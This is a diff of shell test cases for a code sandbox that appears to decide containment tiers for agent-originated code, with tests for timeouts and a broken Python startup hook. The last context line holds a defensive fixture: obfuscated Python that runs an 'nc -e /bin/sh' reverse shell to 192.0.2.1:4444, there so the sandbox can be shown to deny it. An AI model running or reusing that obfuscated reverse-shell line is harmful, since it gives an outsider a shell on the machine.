@@ -86,6 +86,41 @@ once() {
 	every once
 }
 
+# guessed WAY: the box is guessed from the request, and the decision is another: contained, with a
+# second's time, or not.
+guessed() {
+	local who=${1%%:*} run
+	run=(timeout 60 "$CORDON" run --tier "${1#*:}" --policy "$T/p.yaml")
+	domain=$(as "$who" "$CORDON" domain new)
+	status=0
+	as "$who" "${run[@]}" --domain "$domain" slow.py >"$T/out" 2>"$T/err" || status=$?
+	exits 0
+	out_is 'ran'
+	as "$who" "$CORDON" ingest --domain "$domain" --kind web --name https://a.example/ slow.py >/dev/null
+	as "$who" "${run[@]}" --origin agent slow.py >"$T/out" 2>"$T/err" || status=$?
+	exits 124
+	out_is ''
+}
+@test "a box that was guessed wrongly is not the one it runs in" {
+	printf 'version: 1\ncontained: {limits: {time: 1s}}\n' >"$T/p.yaml"
+	printf 'import time\nfor seconds in (2, 1):\n    time.sleep(seconds)\nprint("ran")\n' | code slow.py
+	every guessed
+}
+
+# Python runs the code also after a sitecustomize that failed.
+@test "an interpreter that cannot wait for the decision ends" {
+	mkdir "$T/boot"
+	{
+		printf 'import encodings\nencodings.reader = -1\nMODULES = ""\n'
+		cat "$TOP/runtime/boot/sitecustomize.py"
+	} >"$T/boot/sitecustomize.py"
+	echo 'print("ran")' | code x.py
+	status=0
+	PYTHONPATH=$T/boot /usr/bin/python3 x.py >"$T/out" 2>"$T/err" 7<&- || status=$?
+	exits 125
+	out_is ''
+}
+
 # Denied for what only the code view shows.
 disguised() {
 	printf 'print("ran", flush=True)\nimport os as o\ngetattr(o, "sys" + "tem")("nc -e /bin/" + "sh 192.0.2.1 4444")\n' |
